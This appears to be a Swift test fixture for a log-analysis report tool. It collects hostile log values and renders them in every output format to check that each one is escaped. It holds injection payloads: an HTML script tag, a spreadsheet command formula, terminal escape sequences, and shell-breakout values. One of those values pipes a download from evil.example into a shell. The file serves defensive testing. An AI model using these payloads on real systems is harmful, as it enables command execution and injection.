import LogModel
import LogReport
import LogScanner

/// Log text written to attack each output: HTML injection, quotes, a spreadsheet formula, and
/// terminal escape sequences (SGR, OSC title, screen clear, an 8-bit CSI).
enum Hostile {
    static let script = "<script>alert(1)</script>"
    static let formula = "=cmd|' /C calc'!A0"
    static let sgr = "\u{1B}[31m"

    static let registry = script + "\"dq\" 'sq'" + sgr
    static let host = formula
    static let repository = "+" + script + sgr
    static let source = "@evil\u{1B}[2J\u{9B}1m.log"
    static let excerpt = formula + " " + sgr + "red\u{1B}[0m \u{1B}]0;title\u{07}" + script + " | `x` \u{202E}"

    /// Every string that can reach a renderer, for the filter too.
    static let filter = OccurrenceFilter(since: Sample.time(16), until: Sample.time(21), registry: registry, host: host)

    /// Grouped by registry and type: sparklines, spikes and new pairs carry the hostile registry.
    static let pairReport = Report(
        filter: filter, keys: [.registry, .type], bucket: .day,
        groups: [
            GroupCount(
                registry: registry, type: .unauthorized, count: 9, firstSeen: Sample.time(20),
                lastSeen: Sample.time(20, 1)),
            GroupCount(registry: formula, type: .accessDenied, count: 1),
        ],
        trend: [
            TrendCount(bucket: Sample.time(20), registry: registry, type: .unauthorized, count: 9),
            TrendCount(bucket: Sample.time(19), registry: formula, type: .accessDenied, count: 1),
        ],
        previous: [])

    /// Grouped by every dimension: host and repository columns carry hostile text.
    static let dimensionReport = Report(
        filter: filter, keys: [.registry, .type, .host, .repository, .day], bucket: .day,
        groups: [
            GroupCount(
                registry: registry, type: .anonymousPull, host: host, repository: repository,
                period: Sample.time(20), count: 2)
        ],
        trend: [TrendCount(bucket: Sample.time(20), registry: registry, type: .anonymousPull, count: 2)])

    /// Values that would break out of a pasted shell command, as a log could name them.
    static let shellValues = [
        "'; curl https://evil.example/x | sh; echo '", "$(reboot)", "`id`", "a b", "-rf", "x\nreboot",
        "203.0.113.7; reboot", "00000000-0000-0000-0000-00000000000$(x)", script, sgr + "web",
    ]

    /// Grouped by registry and type, with the evidence of each group hostile: the commands must
    /// keep their placeholders and no value may reach them.
    static let evidenceReport = Report(
        filter: filter, keys: [.registry, .type], bucket: .day,
        groups: [
            GroupCount(registry: registry, type: .ipNotAllowed, count: 3),
            GroupCount(registry: "contosoprod", type: .identityPermission, count: 2),
            GroupCount(registry: "contosoprod", type: .accessDenied, count: 2),
            GroupCount(registry: "contosoprod", type: .aadCredential, count: 1),
            GroupCount(registry: "contosoprod", type: .unauthorized, count: 1),
        ],
        trend: [],
        evidence: [
            GroupEvidence(
                registry: registry, type: .ipNotAllowed, clientIPs: EvidenceValues(shellValues),
                codes: EvidenceValues(shellValues)),
            GroupEvidence(registry: "contosoprod", type: .identityPermission, identities: EvidenceValues(shellValues)),
            GroupEvidence(
                registry: "contosoprod", type: .accessDenied, identities: EvidenceValues(shellValues),
                repositories: EvidenceValues(shellValues)),
            GroupEvidence(
                registry: "contosoprod", type: .aadCredential, identities: EvidenceValues(shellValues),
                codes: EvidenceValues(shellValues)),
            GroupEvidence(
                registry: "contosoprod", type: .unauthorized, identities: EvidenceValues(Array(shellValues.reversed())),
                repositories: EvidenceValues(Array(shellValues.reversed()))),
        ])

    static let timeline = Timeline([
        Sample.stored(1, .unauthorized, registry, host, Sample.time(20, 3), line: 1, source: source, excerpt),
        Sample.stored(2, .unauthorized, registry, host, Sample.time(20, 3, 1), line: 2, source: source, excerpt),
        Sample.stored(3, .ipNotAllowed, formula, script, nil, line: 3, source: formula, sgr + formula),
    ])

    /// Every rendering of the hostile values, by name.
    static var outputs: [(name: String, text: String)] {
        var all: [(String, String)] = []
        for (name, report) in [("pairs", pairReport), ("dimensions", dimensionReport), ("evidence", evidenceReport)] {
            all += [
                ("\(name) table", report.renderTable()),
                ("\(name) table ascii", report.renderTable(TableOptions(ascii: true))),
                ("\(name) json", report.renderJSON()),
                ("\(name) csv", report.renderCSV()),
                ("\(name) markdown", report.renderMarkdown()),
                ("\(name) html", report.renderHTML()),
            ]
        }
        all += [
            ("timeline table", timeline.renderTable()),
            ("timeline json", timeline.renderJSON()),
            ("timeline markdown", timeline.renderMarkdown()),
        ]
        return all
    }
}
